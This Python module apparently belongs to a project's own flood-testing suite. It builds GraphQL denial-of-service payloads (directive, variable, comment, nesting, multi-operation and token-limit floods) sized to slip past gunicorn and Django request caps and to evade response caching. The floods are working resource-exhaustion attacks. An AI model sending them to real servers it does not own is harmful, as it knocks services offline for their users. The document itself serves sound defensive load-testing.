"""What the attackers of `make flood` send: query texts that cost the server the most per byte.

Each flood repeats one thing graphql-core's lexer, parser or validator walks through before
any query limit (depth, aliases, complexity) is checked; the first three are the outside
review's findings (issue 13), the others the same class by other means:

| kind | what repeats | full count | JSON POST |
|---|---|---|---|
| directives | `@a` on one field | 800,000 | ~2.4 MB |
| include | `@include(if: true)` on one field | 100,000 | ~1.9 MB |
| variables | unused `$vN: Int` definitions | 100,000 | ~1.3 MB |
| comment | bytes of one comment | 2,000,000 | ~2.0 MB |
| string | bytes of one string argument (`page(path:)`) | 2,000,000 | ~2.0 MB |
| name | bytes of one field name | 2,000,000 | ~2.0 MB |
| nested | lists nested in `variables` | 100,000 levels | ~0.2 MB |
| operations | small operations in one document | 100,000 | ~2.4 MB |
| tokens | aliased schedules with directives, just under a 5,000-token limit | 4,990 tokens | ~15 KB |

Each is sent three ways: as a JSON POST at full count; as a GET, cut to the longest request
line gunicorn accepts (its `limit_request_line`, which gunicorn.conf.py leaves at the
default); and as a form POST (application/x-www-form-urlencoded), cut to Django's body cap
because URL-encoding inflates it. The tokens flood is the one that gets through a token
limit: real work (uncached schedules), as much as the depth, alias and complexity limits allow.

Every sending gets its own operation name (the nonce): an answer the response cache kept
would spare the server the work, and an attacker does not send the same text twice.
"""

import json
from dataclasses import dataclass
from functools import partial
from urllib.parse import urlencode

from django.conf import global_settings
from gunicorn.config import LimitRequestLine

from .queries import schedule_query

ENDPOINT = "/graphql/"
# The caps a flood must stay under to reach the parser: Django's default
# DATA_UPLOAD_MAX_MEMORY_SIZE (2.5 MiB; cms/settings keeps it), gunicorn's default request line.
BODY_CAP = global_settings.DATA_UPLOAD_MAX_MEMORY_SIZE
REQUEST_LINE_CAP = LimitRequestLine.default
# The token limit the review proposed: the tokens flood stays just under it, 10 tokens to spare
# for however a limit counts them (the start or the end of the text, say).
TOKEN_LIMIT = 5_000
# Replaced in each sending by "N" and 7 digits: the same length, so the sizes hold, another cache key.
NONCE = "N0000000"
# What quote_plus leaves as it is; a space becomes "+", any other ASCII character "%XX".
URL_SAFE = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_.-~ ")
URL_UNSAFE_DELETED = {code: None for code in range(128) if chr(code) not in URL_SAFE}


@dataclass(frozen=True)
class Operation:
    query: str
    variables: str | None = None  # JSON text, written out by hand: json.dumps cannot nest 100,000 lists
    operation_name: str | None = None

    def fields(self):
        """The request's parameters, as graphene-django reads them from a GET or a form."""
        fields = {"query": self.query}
        if self.variables is not None:
            fields["variables"] = self.variables
        if self.operation_name is not None:
            fields["operationName"] = self.operation_name
        return fields


def directives(count):
    return Operation(f"query {NONCE} {{ __typename" + " @a" * count + " }")


def includes(count):
    return Operation(f"query {NONCE} {{ __typename" + " @include(if: true)" * count + " }")


def variables(count):
    definitions = " ".join(f"$v{number}: Int" for number in range(count))
    return Operation(f"query {NONCE}({definitions}) {{ __typename }}")


def comment(count):
    return Operation(f"query {NONCE} {{ __typename }}\n#" + "c" * count)


def string(count):
    return Operation(f'query {NONCE} {{ page(path: "/en/' + "s" * count + '") { title } }')


def name(count):
    return Operation(f"query {NONCE} {{ " + "n" * count + " }")


def nested(count):
    return Operation(f"query {NONCE}($v: [Int]) {{ __typename }}", variables='{"v": ' + "[" * count + "]" * count + "}")


def operations(count):
    """`count` operations; the first, named by the nonce, is the one to run."""
    others = "".join(f"query o{number}{{__typename}}" for number in range(1, count))
    return Operation(f"query {NONCE}{{__typename}}" + others, operation_name=NONCE)


def token_count(text):
    """Tokens of a GraphQL text as graphql-core's parser reads them (comments are not tokens)."""
    from graphql.language import Lexer, Source, TokenKind

    lexer, count = Lexer(Source(text)), 0
    while lexer.advance().kind is not TokenKind.EOF:
        count += 1
    return count


def tokens(count, event_slug, fields_at_most=400):
    """At most `count` tokens: aliased schedules of `event_slug`, fields with `@include`/`@skip`.

    As many schedules as `fields_at_most` (the complexity limit, CMS_API's MAX_COMPLEXITY)
    allows, so that the query passes every limit of today and executes; then directives, 7
    tokens each, up to `count`.
    """
    from graphql import ArgumentNode, BooleanValueNode, DirectiveNode, FieldNode, NameNode, parse, print_ast

    def directive(name, value):
        argument = ArgumentNode(name=NameNode(value="if"), value=BooleanValueNode(value=value))
        return DirectiveNode(name=NameNode(value=name), arguments=(argument,))

    def schedule(number):
        language = ("en", "ru", "tg", "ar")[number % 4]
        field = parse(schedule_query(event_slug, language)).definitions[0].selection_set.selections[0]
        field.alias = NameNode(value=f"s{number}")
        return field

    def text(selections):
        document = parse(f"query {NONCE} {{ __typename }}")
        document.definitions[0].selection_set.selections = tuple(selections)
        return " ".join(print_ast(document).split())  # no string of it holds a space

    def fields_of(node):
        found = [node] if isinstance(node, FieldNode) else []
        for selection in node.selection_set.selections if node.selection_set else ():
            found += fields_of(selection)
        return found

    # "query N0000000 {" and "}" are 4 tokens; each aliased schedule the same number more.
    per_schedule = token_count(text([schedule(0)])) - 4
    fitting = min(fields_at_most // len(fields_of(schedule(0))), max(0, (count - 4) // per_schedule))
    if not fitting:
        return Operation(f"query {NONCE} {{ __typename }}")
    schedules = [schedule(number) for number in range(fitting)]
    fields = [field for alias in schedules for field in fields_of(alias)]
    spare = (count - 4 - fitting * per_schedule) // 7
    for index, field in enumerate(fields):
        chosen = [directive("include", True)] if index < spare else []
        if index + len(fields) < spare:
            chosen.append(directive("skip", False))
        field.directives = tuple(chosen)
    return Operation(text(schedules))


# (kind, builder, full count, what the count counts): the review's three floods first.
KINDS = (
    ("directives", directives, 800_000, "`@a` directives on one field"),
    ("include", includes, 100_000, "`@include(if: true)` directives on one field"),
    ("variables", variables, 100_000, "unused `$vN: Int` variables"),
    ("comment", comment, 2_000_000, "bytes of one comment"),
    ("string", string, 2_000_000, "bytes of one string argument"),
    ("name", name, 2_000_000, "bytes of one field name"),
    ("nested", nested, 100_000, "lists nested in `variables`"),
    ("operations", operations, 100_000, "operations in one document"),
    ("tokens", tokens, TOKEN_LIMIT - 10, "tokens at most (aliased schedules with directives)"),
)


def json_body(operation):
    members = [f'"query": {json.dumps(operation.query)}']
    if operation.variables is not None:
        members.append(f'"variables": {operation.variables}')  # already JSON
    if operation.operation_name is not None:
        members.append(f'"operationName": {json.dumps(operation.operation_name)}')
    return ("{" + ", ".join(members) + "}").encode()


def get_path(operation):
    return f"{ENDPOINT}?{urlencode(operation.fields())}"


def form_body(operation):
    return urlencode(operation.fields()).encode()


def encoded_length(operation):
    """len(urlencode(operation.fields())) without encoding it: fitting encodes megabytes dozens of times."""
    length = 0
    for key, value in operation.fields().items():
        if not value.isascii():
            return len(urlencode(operation.fields()))
        length += len(key) + 1 + len(value) + 2 * (len(value) - len(value.translate(URL_UNSAFE_DELETED)))
    return length + len(operation.fields()) - 1  # the "&" between fields


def request_line_length(operation):
    """len("GET <path> HTTP/1.1"), what gunicorn compares with limit_request_line."""
    return len(f"GET {ENDPOINT}? HTTP/1.1") + encoded_length(operation)


def largest_count(build, most, fits):
    """The largest count in 0..`most` whose operation `fits` (the sizes grow with the count).

    Doubling up from 1 before halving: a GET's count is tiny next to `most`, and building
    megabytes to find it would take seconds.
    """
    if fits(build(most)):
        return most
    fitting, too_many = 0, 1  # 0 fits (nothing to send); whether 1 does is the first question
    while too_many < most and fits(build(too_many)):
        fitting, too_many = too_many, min(2 * too_many, most)
    while too_many - fitting > 1:
        middle = (fitting + too_many) // 2
        if fits(build(middle)):
            fitting = middle
        else:
            too_many = middle
    return fitting


# How each kind is sent, in the order floods() lists them.
TRANSPORTS = ("JSON POST", "GET", "form POST")


@dataclass(frozen=True)
class Flood:
    kind: str
    transport: str  # one of TRANSPORTS
    count: int  # how many of what KINDS says its kind repeats
    method: str
    path: str
    body: bytes | None
    content_type: str | None

    @property
    def name(self):
        return f"{self.kind} ({self.transport})"

    @property
    def size(self):
        """Bytes of what is capped: the body of a POST, the request line of a GET."""
        return len(self.body) if self.body is not None else len(f"GET {self.path} HTTP/1.1")

    def request(self, number):
        """(method, path, body) of sending number `number`: the same bytes under another operation name."""
        nonce = f"N{number % 10_000_000:07d}"
        body = self.body.replace(NONCE.encode(), nonce.encode()) if self.body is not None else None
        return self.method, self.path.replace(NONCE, nonce), body


def floods(event_slug, scale=1.0, fields_at_most=400):
    """Every flood of KINDS each of the TRANSPORTS ways, at `scale` of its full count (a smoke test uses less)."""
    made = []
    for kind, build, full, _counts in KINDS:
        if kind == "tokens":
            build = partial(tokens, event_slug=event_slug, fields_at_most=fields_at_most)  # noqa: PLW2901
        count = max(1, int(full * scale))
        get_count = largest_count(build, count, lambda op: request_line_length(op) <= REQUEST_LINE_CAP)
        form_count = largest_count(build, count, lambda op: encoded_length(op) <= BODY_CAP)
        made += [
            Flood(kind, "JSON POST", count, "POST", ENDPOINT, json_body(build(count)), "application/json"),
            Flood(kind, "GET", get_count, "GET", get_path(build(get_count)), None, None),
            Flood(
                kind, "form POST", form_count, "POST", ENDPOINT, form_body(build(form_count)),
                "application/x-www-form-urlencoded",
            ),
        ]  # fmt: skip
    return made
